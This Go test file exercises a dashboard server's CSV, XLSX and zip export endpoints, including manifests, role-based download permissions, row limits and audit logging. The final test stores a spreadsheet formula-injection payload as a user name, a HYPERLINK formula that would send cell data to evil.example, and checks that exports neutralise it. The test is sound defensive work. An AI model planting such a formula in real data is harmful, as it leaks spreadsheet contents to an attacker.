package server

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/converge-dev/converge/access"
	"github.com/converge-dev/converge/export"
	"github.com/converge-dev/converge/metrics"
	"github.com/converge-dev/converge/views"
	"github.com/converge-dev/converge/warehouse"
	"github.com/converge-dev/converge/warehouse/whtest"
)

// exportFixture is the export package's hand-built fixture (export/testdata/fixture.sql:
// twelve orders of 2025-11 to 2026-03 in four channels) in a fresh store, with the metrics
// registry and the export service over it.
func exportFixture(t testing.TB) (*warehouse.Store, *metrics.Registry, *export.Service) {
	t.Helper()
	st := whtest.Store(t)
	q, err := os.ReadFile(filepath.Join("..", "export", "testdata", "fixture.sql"))
	if err != nil {
		t.Fatal(err)
	}
	if err := st.Conn.Exec(context.Background(), string(q)); err != nil {
		t.Fatal(err)
	}
	reg, err := metrics.New(context.Background(), metrics.Options{Store: st, CacheTTL: -1})
	if err != nil {
		t.Fatal(err)
	}
	return st, reg, &export.Service{Store: st, Registry: reg}
}

// fixtureServer serves the fixture as admin (UTC, Monday weeks).
func fixtureServer(t testing.TB, cfg Config) (*Server, *export.Service) {
	t.Helper()
	_, reg, svc := exportFixture(t)
	cfg.TZ, cfg.WeekStart = "UTC", time.Monday
	srv := asAdmin(New(cfg, Deps{Store: okStore(), Exports: svc,
		Metrics: NewRegistryMetrics(reg, RegistryConfig{Currency: "EUR", WeekStart: time.Monday})}))
	return srv, svc
}

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// aovParams is the KPI page's view of the export package's golden files: average order value
// by channel, the months of 2026 Q1 in Europe/Berlin against the previous three months.
const aovParams = "range=custom&from=2026-01-01&to=2026-03-31&grain=month&tz=Europe/Berlin&compare=previous&by=channel"

// The metric export API answers the export engine's bytes: the golden files of the export
// package, byte for byte, with the KPI page's parameters; its manifest carries their SHA-256.
func TestExportMetricAPIGolden(t *testing.T) {
	srv, _ := fixtureServer(t, Config{})
	golden := func(name string) []byte {
		b, err := os.ReadFile(filepath.Join("..", "export", "testdata", name+".golden"))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	for _, tc := range []struct{ golden, params string }{
		{"aov_raw.csv", "raw=1"},
		{"aov_csv_raw.csv", "raw=1&csv_raw=1"},
		{"aov_formatted.csv", ""},
		{"aov_excel.csv", "preset=excel"},
		{"aov_excel_de.csv", "preset=excel&delimiter=%3B&decimal=%2C"},
		{"aov_excel_de.csv", "preset=excel&delimiter=semicolon&decimal=comma"},
	} {
		t.Run(tc.golden, func(t *testing.T) {
			want := golden(tc.golden)
			rec := get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&"+tc.params)
			if rec.Code != http.StatusOK {
				t.Fatalf("status %d: %s", rec.Code, rec.Body.String())
			}
			if got := rec.Body.Bytes(); !bytes.Equal(got, want) {
				t.Fatalf("the export differs from %s:\n--- got\n%s\n--- want\n%s", tc.golden, got, want)
			}
			if ct, cd := rec.Header().Get("Content-Type"), rec.Header().Get("Content-Disposition"); ct != "text/csv; charset=utf-8" ||
				cd != `attachment; filename="aov_2026-01-01_2026-03-31.csv"` {
				t.Errorf("Content-Type %q, Content-Disposition %q", ct, cd)
			}
			if h := rec.Header().Get("X-Content-SHA256"); h != sha256Hex(want) {
				t.Errorf("X-Content-SHA256 %s, want %s", h, sha256Hex(want))
			}
			// The manifest of the same export: the file's checksum, rows, what produced it.
			rec = get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&"+tc.params+"&manifest=1")
			var m export.Manifest
			if err := json.Unmarshal(rec.Body.Bytes(), &m); err != nil || rec.Code != http.StatusOK {
				t.Fatalf("manifest: %d %v %s", rec.Code, err, rec.Body.String())
			}
			if m.SHA256 != sha256Hex(want) || m.Bytes != int64(len(want)) || m.Rows != 16 || m.Truncated || m.Kind != "metric" ||
				m.File != "aov_2026-01-01_2026-03-31.csv" || m.TimeZone != "Europe/Berlin" {
				t.Errorf("manifest %+v", m)
			}
			if len(m.Metrics) == 0 || m.Metrics[0].Name != "aov" || m.Metrics[0].Version == "" ||
				m.Params.Get("by") != "channel" || m.Params.Get("compare") != "previous" || m.Params.Get("grain") != "month" ||
				!slices.ContainsFunc(m.Sources, func(w export.Watermark) bool { return w.Table == "orders" }) {
				t.Errorf("manifest metrics %+v, params %v, sources %+v", m.Metrics, m.Params, m.Sources)
			}
		})
	}
	// The KPI page's CSV link and the metrics API's format=csv are the same export.
	want := golden("aov_formatted.csv")
	for _, target := range []string{"/kpi/aov.csv?" + aovParams, "/api/v1/metrics/aov?format=csv&" + aovParams} {
		if rec := get(t, srv, target); rec.Code != http.StatusOK || !bytes.Equal(rec.Body.Bytes(), want) {
			t.Errorf("%s: %d\n%s", target, rec.Code, rec.Body.String())
		}
	}
}

// bundle=zip holds the file and its manifest; the manifest's SHA-256 is of the file's bytes.
func TestExportMetricZip(t *testing.T) {
	srv, _ := fixtureServer(t, Config{})
	rec := get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&raw=1&bundle=zip")
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "application/zip" ||
		rec.Header().Get("Content-Disposition") != `attachment; filename="aov_2026-01-01_2026-03-31.zip"` {
		t.Fatalf("zip: %d %v", rec.Code, rec.Header())
	}
	files := unzip(t, rec.Body.Bytes())
	data, ok := files["aov_2026-01-01_2026-03-31.csv"]
	if !ok {
		t.Fatalf("zip entries %v", slices.Collect(maps.Keys(files)))
	}
	want, _ := os.ReadFile(filepath.Join("..", "export", "testdata", "aov_raw.csv.golden"))
	if !bytes.Equal(data, want) {
		t.Errorf("zipped file differs from the golden file:\n%s", data)
	}
	var m export.Manifest
	if err := json.Unmarshal(files["aov_2026-01-01_2026-03-31.csv.manifest.json"], &m); err != nil {
		t.Fatal(err)
	}
	if m.SHA256 != sha256Hex(data) || m.Rows != 16 || !m.Options.Raw {
		t.Errorf("manifest %+v", m)
	}
}

func unzip(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return out
}

// The XLSX export opens with excelize: typed cells, the same table.
func TestExportMetricXLSX(t *testing.T) {
	srv, _ := fixtureServer(t, Config{})
	rec := get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&format=xlsx")
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Fatalf("xlsx: %d %v", rec.Code, rec.Header())
	}
	// The same export's manifest names these bytes: the XLSX holds nothing that changes.
	var m export.Manifest
	if mrec := get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&format=xlsx&manifest=1"); json.Unmarshal(mrec.Body.Bytes(), &m) != nil ||
		m.SHA256 != sha256Hex(rec.Body.Bytes()) || m.Format != export.XLSX || m.File != "aov_2026-01-01_2026-03-31.xlsx" {
		t.Errorf("xlsx manifest %+v, the file's sha256 %s", m, sha256Hex(rec.Body.Bytes()))
	}
	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Export", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 17 || rows[0][0] != "channel" || rows[0][2] != "Average order value (EUR)" {
		t.Fatalf("rows %q", rows)
	}
	// ads, February: 3000 against 100 in November (+2900 %).
	if r := rows[6]; r[0] != "ads" || r[1] != "2026-02" || r[2] != "3000" || r[4] != "100" || r[5] != "2900" {
		t.Errorf("ads February %q", r)
	}
}

// Bad parameters are 400s naming them; an unknown or hidden metric is a 404; an executive
// may not export.
func TestExportMetricErrors(t *testing.T) {
	srv, _ := fixtureServer(t, Config{})
	for _, tc := range []struct {
		target string
		status int
		param  string
	}{
		{"/api/v1/export/metric/aov?format=pdf", 400, "format"},
		{"/api/v1/export/metric/aov?delimiter=x", 400, "delimiter"},
		{"/api/v1/export/metric/aov?decimal=,", 400, "decimal"}, // also the default delimiter
		{"/api/v1/export/metric/aov?raw=maybe", 400, "raw"},
		{"/api/v1/export/metric/aov?csv_raw=yes", 400, "csv_raw"},
		{"/api/v1/export/metric/aov?csv_raw=1&format=xlsx", 400, "csv_raw"},
		{"/api/v1/export/metric/aov?csv_raw=1&preset=excel", 400, "csv_raw"},
		{"/api/v1/export/metric/aov?manifest=1&bundle=zip", 400, "manifest"},
		{"/api/v1/export/metric/aov?grain=hour", 400, "grain"},
		{"/api/v1/export/metric/aov?by=country", 200, ""},
		{"/api/v1/export/metric/aov?by=colour", 400, "by"},
		{"/api/v1/export/metric/nope", 404, ""},
		// A custom metric's param, by the metric's own bounds (as the funnel page and the CLI).
		{"/api/v1/export/metric/funnel_conversion?arg.window_days=100000", 400, "window_days"},
		{"/api/v1/export/metric/funnel_conversion?arg.window_days=365", 200, ""},
	} {
		rec := get(t, srv, tc.target)
		var body apiError
		_ = json.Unmarshal(rec.Body.Bytes(), &body)
		if rec.Code != tc.status || body.Param != tc.param {
			t.Errorf("%s: %d %q, want %d naming %q", tc.target, rec.Code, rec.Body.String(), tc.status, tc.param)
		}
	}
	srv.testUser = &access.User{Email: "ceo@test", Role: access.RoleExecutive}
	if rec := get(t, srv, "/kpi/aov.csv?"+aovParams); rec.Code != http.StatusForbidden {
		t.Errorf("executive CSV: %d", rec.Code)
	}
}

// A download holds at most Config.ExportMaxRows rows, and says so in the file.
func TestExportMetricRowLimit(t *testing.T) {
	srv, _ := fixtureServer(t, Config{ExportMaxRows: 5})
	rec := get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&raw=1")
	r := csv.NewReader(strings.NewReader(rec.Body.String()))
	r.FieldsPerRecord = -1 // the limit note is one field
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rec.Code != http.StatusOK || len(rows) != 7 || !strings.HasPrefix(rows[6][0], "TRUNCATED: first 5 rows of more") {
		t.Fatalf("%d rows %q", rec.Code, rows)
	}
	rec = get(t, srv, "/api/v1/export/metric/aov?"+aovParams+"&raw=1&manifest=1")
	var m export.Manifest
	if err := json.Unmarshal(rec.Body.Bytes(), &m); err != nil || !m.Truncated || m.Rows != 5 || m.RowLimit != 5 {
		t.Errorf("manifest %+v (%v)", m, err)
	}
}

// tableEnv is a server with real sessions over the demo data (the metrics and the customer
// pages), for who sees which download links.
func tableEnv(t *testing.T) *accessEnv {
	t.Helper()
	st := demoStore(t)
	demo := demoMetrics(t)
	warm(t, demo) // as serve does: the first catalog may take longer than the pages wait for it
	env := newAccessEnv(t, Config{TZ: "UTC", WeekStart: time.Monday, TileTimeout: 60 * time.Second}, access.Config{},
		Deps{Metrics: demo, Customers: metrics.NewCustomers(st)})
	env.srv.now = func() time.Time { return whtest.DemoEnd.Add(36 * time.Hour) }
	return env
}

var downloadLinkRe = `class="table-downloads`

// Every table on the dashboard's pages offers "Download CSV" to finance and up, and nothing
// to executives, who may not download them either; the download is the table as shown, and
// it is audited.
func TestTableDownloadLinks(t *testing.T) {
	env := tableEnv(t)
	ctx := context.Background()
	id, _, _ := demoCustomer(t)
	pages := []struct {
		path   string
		tables int // download links at least
	}{
		{"/?range=last_year", 10},                       // every tile's data table: its metric export
		{"/kpi/revenue_gross?range=last_year", 2},       // trend and breakdown
		{"/channels?range=last_year", 2},                // chart and table
		{"/retention?range=last_year", 2},               // matrix and curve
		{"/funnel?range=last_year", 2},                  // overall and by channel
		{"/customers?range=last_year&q=example.com", 4}, // search results and the lists
		{"/customers/" + id, 3},                         // the customer 360's sections
	}
	fin, exec := env.session(t, access.RoleFinance), env.session(t, access.RoleExecutive)
	for _, p := range pages {
		rec := env.send(t, ctx, http.MethodGet, p.path, &fin, nil, nil)
		body := rec.Body.String()
		if n := strings.Count(body, downloadLinkRe); rec.Code != http.StatusOK || n < p.tables || strings.Count(body, "<table") > n {
			t.Errorf("finance %s: %d, %d download links for %d tables, want at least %d", p.path, rec.Code, n, strings.Count(body, "<table"), p.tables)
		}
		rec = env.send(t, ctx, http.MethodGet, p.path, &exec, nil, nil)
		if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), downloadLinkRe) || strings.Contains(rec.Body.String(), "Download CSV") {
			t.Errorf("executive %s: %d, offers downloads", p.path, rec.Code)
		}
	}
	// The matrix as shown: a row per cohort and the average, the page's labels.
	rec := env.send(t, ctx, http.MethodGet, "/retention?range=last_year&table=matrix&format=csv", &fin, nil, nil)
	rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil || rec.Code != http.StatusOK || len(rows) < 3 || rows[0][0] != "Cohort" || rows[1][0] != "Jan 2025" {
		t.Fatalf("matrix CSV %d %v %q", rec.Code, err, rows)
	}
	page := env.send(t, ctx, http.MethodGet, "/retention?range=last_year", &fin, nil, nil).Body.String()
	for _, r := range rows[1:] {
		if !strings.Contains(page, ">"+r[0]+"<") || !strings.Contains(page, ">"+r[2]+"<") {
			t.Errorf("row %q is not on the page", r)
		}
	}
	if cd := rec.Header().Get("Content-Disposition"); cd != `attachment; filename="retention_matrix.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if rec := env.send(t, ctx, http.MethodGet, "/retention?range=last_year&table=matrix&format=csv", &exec, nil, nil); rec.Code != http.StatusForbidden {
		t.Errorf("executive download: %d", rec.Code)
	}
	if rec := env.send(t, ctx, http.MethodGet, "/retention?range=last_year&table=nope", &fin, nil, nil); rec.Code != http.StatusBadRequest ||
		!strings.Contains(rec.Body.String(), "matrix") {
		t.Errorf("unknown table: %d", rec.Code)
	}
	// XLSX of the channel table.
	rec = env.send(t, ctx, http.MethodGet, "/channels?range=last_year&table=channels&format=xlsx", &fin, nil, nil)
	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatalf("channels xlsx: %d %v", rec.Code, err)
	}
	xrows, _ := f.GetRows("Export")
	f.Close()
	if len(xrows) < 3 || xrows[0][0] != "Channel" {
		t.Errorf("channels xlsx %q", xrows)
	}
	entries, _, err := env.svc.AuditLog(ctx, access.AuditQuery{Action: "export"})
	if err != nil {
		t.Fatal(err)
	}
	var targets []string
	for _, e := range entries {
		if e.Actor == "finance@test" {
			targets = append(targets, e.Target)
		}
	}
	if !slices.Contains(targets, "table:/retention#matrix") || !slices.Contains(targets, "table:/channels#channels") {
		t.Errorf("audited exports %q", targets)
	}
}

// A paginated table downloads every row that matches, page by page.
func TestPagedRows(t *testing.T) {
	items := make([]int, 7)
	for i := range items {
		items[i] = i + 1
	}
	var calls []int
	fetch := func(offset, limit int) ([]int, error) {
		calls = append(calls, offset)
		return items[min(offset, len(items)):min(offset+limit, len(items))], nil
	}
	var got []string
	for row, err := range paged(3, fetch, func(i int) []string { return []string{strings.Repeat("x", i)} }) {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, row[0])
	}
	if len(got) != 7 || got[6] != "xxxxxxx" || !slices.Equal(calls, []int{0, 3, 6}) {
		t.Errorf("rows %q, fetched at %v", got, calls)
	}
	// An export stops reading pages at its row limit.
	calls = nil
	var buf bytes.Buffer
	m, err := export.Text(&buf, []string{"n"}, nil, paged(3, fetch, func(i int) []string { return []string{string(rune('0' + i))} }), export.Options{MaxRows: 4})
	if !errors.Is(err, export.ErrTruncated) || m.Rows != 4 || !slices.Equal(calls, []int{0, 3}) ||
		!strings.HasPrefix(buf.String(), "n\n1\n2\n3\n4\nTRUNCATED: first 4 rows of more") {
		t.Errorf("limited export: %v, %+v, fetched at %v:\n%s", err, m, calls, buf.String())
	}
}

// The quarantine's records download holds every record that matches the filters, not only the
// page shown (50 a page), read from the store a page at a time.
func TestQuarantineDownloadAll(t *testing.T) {
	st, _ := dataFixture(t)
	srv := dataServer(t, Config{}, st, nil)
	for _, target := range []string{"/data/quarantine?table=records&format=csv", "/data/quarantine?page=2&table=records&format=csv"} {
		rec := get(t, srv, target)
		rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
		if err != nil || rec.Code != http.StatusOK || len(rows) != 67 || !slices.Equal(rows[0], views.QuarantineHead) {
			t.Fatalf("%s: %d %v, %d rows", target, rec.Code, err, len(rows))
		}
		var lines []string
		for _, r := range rows[1:] {
			lines = append(lines, r[0])
		}
		if !slices.Contains(lines, "orders.csv:12") || !slices.Contains(lines, "orders.csv:77") {
			t.Errorf("%s: positions %q", target, lines)
		}
	}
	// Filtered as the page: only the five without a currency.
	rec := get(t, srv, "/data/quarantine?code=missing_field&table=records&format=csv")
	if rows, _ := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll(); len(rows) != 6 || rows[1][5] != "missing_field" {
		t.Errorf("filtered records %q", rows)
	}
	// The page says what the file holds.
	if body := get(t, srv, "/data/quarantine").Body.String(); !strings.Contains(body, "every record that matches the filters, not only this page") {
		t.Errorf("the records' download note is missing")
	}
}

// A page table's CSV guards its text against being run as a formula by a spreadsheet (a user
// named "=HYPERLINK(…)" becomes "'=HYPERLINK(…)"), and csv_raw=1 gives the text as stored.
func TestTableDownloadFormulaGuard(t *testing.T) {
	env := newAccessEnv(t, Config{TZ: "UTC"}, access.Config{}, Deps{})
	ctx := context.Background()
	evil := `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
	if _, err := env.svc.AddUser(ctx, "", access.User{Email: "evil@test", Name: evil, Role: access.RoleExecutive}, "long enough password"); err != nil {
		t.Fatal(err)
	}
	admin := env.session(t, access.RoleAdmin)
	for _, tc := range []struct{ params, want string }{
		{"", "'" + evil},
		{"&preset=excel", "'" + evil},
		{"&csv_raw=1", evil},
	} {
		rec := env.send(t, ctx, http.MethodGet, "/admin/users?table=users&format=csv"+tc.params, &admin, nil, nil)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
		if rec.Code != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %v\n%s", tc.params, rec.Code, err, rec.Body.String())
		}
		i := slices.IndexFunc(rows, func(r []string) bool { return r[0] == "evil@test" })
		if i < 0 || rows[i][1] != tc.want {
			t.Errorf("%s: rows %q, want the name %q", tc.params, rows, tc.want)
		}
	}
	if rec := env.send(t, ctx, http.MethodGet, "/admin/users?table=users&format=xlsx&csv_raw=1", &admin, nil, nil); rec.Code != http.StatusBadRequest {
		t.Errorf("csv_raw with xlsx: %d", rec.Code)
	}
}
